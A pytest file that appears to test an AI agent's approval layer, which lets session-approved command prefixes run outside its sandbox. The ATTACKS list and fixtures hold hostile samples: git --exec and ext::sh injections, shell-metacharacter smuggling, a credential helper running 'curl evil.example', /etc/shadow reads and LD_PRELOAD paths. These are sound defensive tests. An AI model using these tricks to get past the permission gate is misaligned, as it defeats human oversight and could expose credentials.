"""A beginning that was allowed outside the sandbox for the session: it never runs what the model edited, or what it did not say."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dragoman.policy.approvals import Approvals
from dragoman.policy.grants import Grants
from dragoman.policy.judge import Law
from dragoman.policy.outside_beginnings import find_beginning, plain_words
from dragoman.tools.child_environment import path_outside
from dragoman.values.calls import Allow, Deny
from policy.test_outside import Person, Shell, a_call

ADDRESS = "https://git.example.org/team/it.git"
HARMLESS = [
    ("git push", "git push origin main"),
    ("git push", "git push -u origin HEAD"),
    ("git fetch", "git fetch --all --prune"),
    ("git ls-remote", "git ls-remote --heads origin"),
    ("docker ps", "docker ps -aq --format '{{.Names}}: {{.Status}}'"),
    ("docker logs", "docker logs --tail 50 web"),
    ("kubectl get", "kubectl get pods -n prod -o jsonpath='{.items[*].metadata.name}'"),
    ("gh pr view", "gh pr view 12 --json title,body -R owner/repo"),
    ("systemctl status", "systemctl status --no-pager nginx"),
    ("journalctl", "journalctl -u nginx -n 100 --since '1 hour ago'"),
]


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home of its own, and programs that are found outside the workspace."""
    made = tmp_path / "home"
    programs = made / "bin"
    programs.mkdir(parents=True)
    for name in ("docker", "kubectl", "gh", "systemctl", "journalctl"):
        (programs / name).write_text("#!/bin/sh\n")
        (programs / name).chmod(0o755)
    monkeypatch.setenv("HOME", str(made))
    monkeypatch.setenv("PATH", f"{programs}{os.pathsep}{os.environ['PATH']}")
    for name in [name for name in os.environ if name.startswith(("GIT_", "XDG_CONFIG"))]:
        monkeypatch.delenv(name)
    return made


@pytest.fixture
def workspace(tmp_path: Path, home: Path) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    git(folder, "init", "-q", "-b", "main")
    git(folder, "remote", "add", "origin", ADDRESS)
    for sample in (folder / ".git" / "hooks").glob("*"):
        assert sample.name.endswith(".sample")
    return folder


def git(folder: Path, *arguments: str) -> None:
    subprocess.run(["git", "-C", str(folder), *arguments], check=True, capture_output=True)


class Session:
    """A conversation in which beginnings were allowed."""

    def __init__(self, workspace: Path, *prefixes: str) -> None:
        self.person = Person()
        grants = Grants()
        for prefix in prefixes:
            grants.add(f"outside* {with_address(prefix)}")
        law = Law((), (str(workspace),))
        self.approvals = Approvals(lambda name: Shell(), "auto", self.person, grants=grants, law=lambda: law, has_sandbox=lambda: True)
        self.workspace = workspace

    def tries(self, command: str, **more: str) -> Allow | Deny:
        answer: Any = self.approvals.decide(a_call(command, **{"directory": str(self.workspace), **more}))
        return answer if isinstance(answer, Allow | Deny) else asyncio.run(answer)

    def asks(self, command: str, **more: str) -> str:
        """Why it is asked about; empty: it is not."""
        self.person.seen.clear()
        self.tries(command, **more)
        return self.person.seen[0].why or "?" if self.person.seen else ""


def with_address(prefix: str) -> str:
    """As it is offered: a beginning that reaches a remote is allowed for that one alone."""
    return f"{prefix} → {ADDRESS}" if prefix.startswith("git ") else prefix


@pytest.mark.parametrize(("prefix", "command"), HARMLESS)
def test_a_beginning_is_offered_and_then_spares_the_question_for_the_session(workspace: Path, prefix: str, command: str) -> None:
    session = Session(workspace)
    assert session.asks(command) == "?"
    offered = with_address(prefix)
    assert session.person.seen[0].prefix == offered
    session.person.answer = Allow(remember="session", prefix=offered)
    session.tries(command)
    assert session.approvals.grants.of_session == {f"outside* {offered}"}
    first = session.approvals.outside_run("c1")
    assert first is not None
    assert str(workspace) in first.untrusted, "the first runs as those after it: ssh and helpers are not taken from the workspace"
    assert session.asks(command) == ""
    run = session.approvals.outside_run("c1")
    assert run is not None
    assert str(workspace) in run.untrusted


def test_a_beginning_is_never_saved(workspace: Path, tmp_path: Path) -> None:
    file = str(tmp_path / "grants.jsonl")
    session = Session(workspace)
    session.approvals.grants = Grants(file, str(workspace))
    session.person.answer = Allow(remember="saved", prefix=with_address("git push"))
    session.tries("git push")
    assert not os.path.exists(file)
    assert session.asks("git push") != ""
    Path(file).write_text(json.dumps({"folder": str(workspace), "key": f"outside* {with_address('git push')}"}) + "\n")
    assert session.asks("git push") != ""


ATTACKS = [
    "git push --receive-pack=./x origin", "git push --receive-pack ./x origin", "git push --exec=./x origin",
    "git push --recei=./x origin", "git -c core.sshCommand=./x push", "git -C sub push", "git --git-dir=x push", "git --exec-path=. push",
    "git push origin --repo=./x", "git push ext::sh -c ./x", "git push 'ext::sh -c ./x'", "git push ./elsewhere",
    "git push /srv/other.git", "git push file:///srv/o.git", "git push https://evil.example/x", "git push evil@evil.example:x",
    "git push other", "git push .", "git push -f", "git push --force", "git push origin +main", "git push origin :main",
    "git push --delete origin main", "git push --mirror", "git push -o ci.skip", "git push\n./x", "git push;./x", "git push &&./x",
    "git push | sh", "git push & ./x", "git push $(./x)", "git push `./x`", "git push $X", "git${IFS}push", "git push${IFS}--exec=x",
    "git push $IFS", "git push > x", "git push < x", "git push {origin,--exec=x}", "git push *", "git push ~", "X=1 git push",
    "env git push", "command git push", "./git push", "/usr/bin/git push", "\\git push", "g'i't push --exec=x",
    "git push origin main # x", 'git push \xa0origin', "git push\torigin", "git push \r./x", "git 'push --exec=x'", "git push ''",
    "git push --", 'git push "origin"', "git push -uexec", "git push -u --exec", "git push --no-verify", "git fetch --upload-pack=./x",
    "git ls-remote -o x", "git pull", "git submodule update", "docker ps -H tcp://evil", "docker -H tcp://evil ps",
    "docker --config . ps", "docker run x", "docker ps --config=.", "docker inspect --format", "kubectl get --kubeconfig=./x pods",
    "kubectl get pods --kubeconfig ./x", "kubectl get secret x", "kubectl get secrets -o yaml", "kubectl get -f x",
    "kubectl get pods -o go-template-file=/etc/shadow", "kubectl get pods -o jsonpath-file=x", "kubectl exec x", "gh pr list --web",
    "gh pr view -R evil.example/a/b", "gh pr checkout 1", "gh api x", "gh alias set x", "systemctl status -H evil", "systemctl restart x",
    "systemctl --host evil status", "journalctl --cursor-file=x", "journalctl --vacuum-time=1s", "journalctl -D /x",
    "journalctl --file x",
]  # fmt: skip


def test_no_other_words_are_covered(workspace: Path) -> None:
    (workspace / "sub").mkdir()
    prefixes = {prefix for prefix, _ in HARMLESS} | {"docker inspect", "gh pr list"}
    session = Session(workspace, *prefixes)
    assert session.asks("git push") == ""
    let_through = [command for command in ATTACKS if not session.asks(command)]
    assert let_through == []


def test_the_question_says_why_a_beginning_does_not_cover_it(workspace: Path) -> None:
    session = Session(workspace, "git push")
    assert "--force is not among the options" in session.asks("git push --force")
    assert "plain words" in session.asks("git push && true")
    assert "other is not a remote" in session.asks("git push other")


@given(st.text(st.sampled_from("git push-fo'\"$;&|<>(){}*?~\\\n\t #!=:./é\0"), max_size=30))
@settings(max_examples=150, deadline=None)
def test_words_are_plain_only_where_a_shell_reads_the_same(tail: str) -> None:
    command = f"git push {tail}"
    if words := plain_words(command):
        shown = subprocess.run(["bash", "-fc", f"printf '%s\\0' {command}"], capture_output=True, check=True).stdout
        assert tuple(shown.decode().split("\0")[:-1]) == words


# --- what the repository, the settings and PATH may lead to


def plant(path: Path, text: str = "#!/bin/sh\n") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)


def hook(workspace: Path, home: Path) -> None:
    plant(workspace / ".git" / "hooks" / "pre-push")


def hooks_elsewhere(workspace: Path, home: Path) -> None:
    plant(workspace / ".husky" / "pre-push")
    git(workspace, "config", "core.hooksPath", ".husky")


def hooks_of_the_user(workspace: Path, home: Path) -> None:
    plant(home / ".gitconfig", "[core]\n\thooksPath = ~/hooks\n")


def ssh_of_the_repository(workspace: Path, home: Path) -> None:
    git(workspace, "config", "core.sshCommand", "./ssh")


def helper_of_the_repository(workspace: Path, home: Path) -> None:
    git(workspace, "config", "credential.helper", "!./x")


def helper_of_the_user_in_the_workspace(workspace: Path, home: Path) -> None:
    plant(workspace / "helper")
    plant(home / ".gitconfig", f'[credential]\n\thelper = "!{workspace}/helper"\n')


def included(workspace: Path, home: Path) -> None:
    plant(home / "more", '[hook "x"]\n\tcommand = make\n')
    plant(home / ".gitconfig", '[includeIf "gitdir:~/nowhere/"]\n\tpath = more\n')


def local_remote(workspace: Path, home: Path) -> None:
    git(workspace, "remote", "set-url", "origin", "../elsewhere.git")


def helper_for_the_address(workspace: Path, home: Path) -> None:
    git(workspace, "remote", "set-url", "origin", "ext::sh -c ./x")


def local_push_address(workspace: Path, home: Path) -> None:
    git(workspace, "config", "remote.origin.pushurl", "/srv/other.git")


def replaced_address(workspace: Path, home: Path) -> None:
    plant(home / ".gitconfig", '[url "/srv/"]\n\tinsteadOf = https://git.example.org/\n')


def replaced_push_address(workspace: Path, home: Path) -> None:
    plant(home / ".gitconfig", '[url "ext::sh "]\n\tpushInsteadOf = https://\n')


def replaced_by_the_repository(workspace: Path, home: Path) -> None:
    git(workspace, "config", "url./srv/.insteadOf", "https://git.example.org/")


def branch_with_a_remote_of_its_own(workspace: Path, home: Path) -> None:
    git(workspace, "config", "branch.main.remote", "../elsewhere.git")


def receiving_program(workspace: Path, home: Path) -> None:
    git(workspace, "config", "remote.origin.receivepack", "./x")


def link_among_the_refs(workspace: Path, home: Path) -> None:
    (workspace / ".git" / "refs" / "remotes").mkdir(exist_ok=True)
    (workspace / ".git" / "refs" / "remotes" / "origin").symlink_to(home)


def link_among_the_logs(workspace: Path, home: Path) -> None:
    (workspace / ".git" / "logs").symlink_to(home)


def other_name_of_a_file(workspace: Path, home: Path) -> None:
    plant(home / ".profile")
    os.link(home / ".profile", workspace / ".git" / "FETCH_HEAD")


def git_directory_elsewhere(workspace: Path, home: Path) -> None:
    (workspace / ".git").rename(home / "git")
    (workspace / ".git").write_text(f"gitdir: {home}/git\n")


def bare_folder(workspace: Path, home: Path) -> None:
    plant(workspace / "HEAD", "ref: refs/heads/main\n")
    (workspace / "objects").mkdir()


def remote_of_old(workspace: Path, home: Path) -> None:
    git(workspace, "remote", "rename", "origin", "upstream")
    git(workspace, "remote", "add", "fork", ADDRESS)
    plant(workspace / ".git" / "branches" / "origin", "https://evil.example/x\n")


def settings_kept_in_the_workspace(workspace: Path, home: Path) -> None:
    plant(workspace / "gitconfig", "[credential]\n\thelper = !curl evil.example\n")
    (home / ".gitconfig").symlink_to(workspace / "gitconfig")


def settings_included_from_the_workspace(workspace: Path, home: Path) -> None:
    plant(workspace / "gitconfig", "[credential]\n\thelper = !curl evil.example\n")
    plant(home / ".gitconfig", f"[include]\n\tpath = {workspace}/gitconfig\n")


def ssh_settings_kept_in_the_workspace(workspace: Path, home: Path) -> None:
    plant(workspace / "ssh" / "config", "Match exec ./x\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "config").symlink_to(workspace / "ssh" / "config")


def helper_that_runs_the_project(workspace: Path, home: Path) -> None:
    plant(home / ".gitconfig", '[credential]\n\thelper = "!make token"\n')


def helper_that_loads_from_here(workspace: Path, home: Path) -> None:
    plant(home / ".gitconfig", "[credential]\n\thelper = !python3 -m logins\n")


def no_remote(workspace: Path, home: Path) -> None:
    git(workspace, "remote", "remove", "origin")


LEADS = [
    hook, hooks_elsewhere, hooks_of_the_user, ssh_of_the_repository, helper_of_the_repository, helper_of_the_user_in_the_workspace,
    included, local_remote, helper_for_the_address, local_push_address, replaced_address, replaced_push_address,
    replaced_by_the_repository, branch_with_a_remote_of_its_own, receiving_program, link_among_the_refs, link_among_the_logs,
    other_name_of_a_file, git_directory_elsewhere, bare_folder, no_remote, remote_of_old, settings_kept_in_the_workspace,
    settings_included_from_the_workspace, ssh_settings_kept_in_the_workspace, helper_that_runs_the_project, helper_that_loads_from_here,
]  # fmt: skip


@pytest.mark.parametrize("lead", LEADS, ids=lambda lead: lead.__name__)
def test_git_is_asked_about_where_it_would_run_or_reach_something_else(workspace: Path, home: Path, lead: Any) -> None:
    session = Session(workspace, "git push")
    assert session.asks("git push") == ""
    lead(workspace, home)
    assert session.asks("git push") not in ("", "?")
    assert Session(workspace).asks("git push") == "?"


def test_a_remote_that_was_made_since_is_asked_about(workspace: Path) -> None:
    """A command cannot change the workspace's own settings, but it can make a repository within, with a remote of its choice."""
    session = Session(workspace, "git push")
    inner = workspace / "sub"
    inner.mkdir()
    git(inner, "init", "-q", "-b", "main")
    git(inner, "remote", "add", "origin", "https://me:password@evil.example/x.git")
    assert "another address than https://evil.example/x.git" in session.asks("git push origin main", directory=str(inner))
    assert session.person.seen[0].prefix == "git push → https://evil.example/x.git"
    session.person.answer = Allow(remember="session", prefix="git push → https://evil.example/x.git")
    session.tries("git push", directory=str(inner))
    assert session.asks("git push", directory=str(inner)) == ""
    assert session.asks("git push") == ""
    git(workspace, "remote", "add", "more", "ssh://git@other.example/x.git")
    assert session.asks("git push origin main") == ""
    assert "ssh://other.example/x.git" in session.asks("git push more")
    assert "ssh://other.example/x.git" in session.asks("git push")


def test_what_it_starts_loads_no_code_of_the_folder(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PYTHONPATH", "src")
    monkeypatch.delenv("NODE_PATH", raising=False)
    session = Session(workspace, "kubectl get")
    assert session.asks("kubectl get pods") == ""
    run = session.approvals.outside_run("c1")
    assert run is not None
    assert (dict(run.environment)["PYTHONPATH"], "NODE_PATH" in dict(run.environment)) == ("", False)


def test_gh_asks_git_so_it_is_asked_about_too(workspace: Path, home: Path) -> None:
    session = Session(workspace, "gh pr list")
    assert session.asks("gh pr list") == ""
    ssh_of_the_repository(workspace, home)
    assert "core.sshcommand" in session.asks("gh pr list")


def test_a_program_in_the_workspace_is_not_run_by_a_beginning(workspace: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plant(workspace / "venv" / "bin" / "docker")
    session = Session(workspace, "docker ps")
    path = os.environ["PATH"]
    assert session.asks("docker ps") == ""
    for first in (f"{workspace}/venv/bin", "venv/bin", ""):
        monkeypatch.setenv("PATH", f"{first}{os.pathsep}{path}")
        assert session.asks("docker ps") != "", first
        assert str(workspace) not in path_outside((str(workspace),))
    (home / "linked").symlink_to(workspace / "venv" / "bin")
    monkeypatch.setenv("PATH", f"{home}/linked{os.pathsep}{path}")
    assert session.asks("docker ps") != ""


@pytest.mark.parametrize("name", ["KUBECONFIG", "KUBERC", "DOCKER_CONFIG", "GH_CONFIG_DIR"])
def test_variables_that_name_a_place_from_here_are_asked_about(workspace: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(name, "settings")
    assert Session(workspace, "docker ps").asks("docker ps") != ""


@pytest.mark.parametrize("place", [".docker/config.json", ".kube", ".config/gh/config.yml", ".ssh"])
def test_settings_that_are_kept_in_the_workspace_are_asked_about(workspace: Path, home: Path, place: str) -> None:
    session = Session(workspace, "docker ps", "kubectl get")
    assert session.asks("docker ps") == ""
    (home / place).parent.mkdir(parents=True, exist_ok=True)
    (home / place).symlink_to(workspace / "kept")
    assert place in session.asks("docker ps")
    (workspace / "kept").symlink_to(home / "elsewhere")
    assert place in session.asks("kubectl get pods"), "whose links lead where the model wants"


@pytest.mark.parametrize("name", ["KUBECONFIG", "GIT_SSH_COMMAND", "DOCKER_CONFIG", "BASH_ENV", "HOME", "LD_PRELOAD", "GIT_CONFIG_COUNT"])
def test_variables_that_lead_into_the_workspace_are_asked_about(workspace: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(name, f"{workspace}/x")
    assert Session(workspace, "git push").asks("git push") != ""


def test_a_hook_that_comes_between_judging_and_running_does_not_run(workspace: Path, home: Path, tmp_path: Path) -> None:
    session = Session(workspace, "git fetch")
    assert session.asks("git fetch origin") == ""
    run = session.approvals.outside_run("c1")
    assert run is not None
    git(workspace, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x")
    plant(workspace / ".git" / "hooks" / "reference-transaction", f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    plant(workspace / "x", f"#!/bin/sh\ntouch {tmp_path}/ran\n")
    for address in ("ext::./x", str(workspace)):
        git(workspace, "config", "remote.origin.url", address)
        env = {**os.environ, **dict(run.environment), "PATH": path_outside(run.untrusted)}
        done = subprocess.run(["git", "fetch", "origin"], cwd=workspace, env=env, capture_output=True, check=False)
        assert done.returncode != 0
    assert not (tmp_path / "ran").exists()


def test_the_beginnings_are_known_by_their_words() -> None:
    assert find_beginning(plain_words("git push")) is not None
    assert find_beginning(plain_words("git")) is None
    assert find_beginning(()) is None
